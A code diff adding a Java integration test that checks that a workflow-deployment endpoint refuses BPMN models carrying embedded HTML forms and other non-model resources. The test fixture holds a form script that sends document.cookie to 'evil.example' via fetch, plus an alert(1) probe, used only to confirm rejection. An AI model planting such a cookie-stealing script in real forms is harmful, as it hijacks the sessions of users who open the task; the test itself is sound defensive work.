@@ -99,6 +99,24 @@ class DeploymentModelCheckTest extends IntegrationTest {
         assertThat(answer.getBody().get("message").asText()).contains("Flow_ToEnd", "script");
     }
 
+    /** Tasklist runs an embedded form's script in the session of whoever opens the task: a team lead's, an administrator's. */
+    @Test
+    void anEmbeddedFormAndAnyResourceButModelsAndFormsAreRefused() {
+        long before = repositoryService.createDeploymentQuery().count();
+        String withEmbeddedForm = process("camunda:expression=\"${true}\"", "").replace("<bpmn:startEvent id=\"StartEvent_Probe\"/>",
+                "<bpmn:startEvent id=\"StartEvent_Probe\" camunda:formKey=\"embedded:deployment:registreren.html\"/>");
+        ResponseEntity<JsonNode> answer = ModelerDeploy.deploy(as("beheerder"), Map.of("probe.bpmn", withEmbeddedForm,
+                "registreren.html", "<form><script cam-script type=\"text/form-script\">fetch('https://evil.example/'"
+                        + " + document.cookie)</script></form>"));
+        assertThat(answer.getStatusCode().value()).isEqualTo(400);
+        assertThat(answer.getBody().get("message").asText())
+                .contains("StartEvent_Probe", "camunda:formKey", "camunda:formRef", "registreren.html", "alleen modellen");
+        assertThat(deploy("probe.bpmn", withEmbeddedForm.replace("embedded:deployment:registreren.html",
+                "app:forms/registreren.html")).getStatusCode().value()).isEqualTo(400);
+        assertThat(deploy("helper.js", "alert(1)").getStatusCode().value()).isEqualTo(400);
+        assertThat(repositoryService.createDeploymentQuery().count()).isEqualTo(before);
+    }
+
     @Test
     void aDecisionTableInAnotherLanguageThanFeelIsRefused() {
         String dmn = """
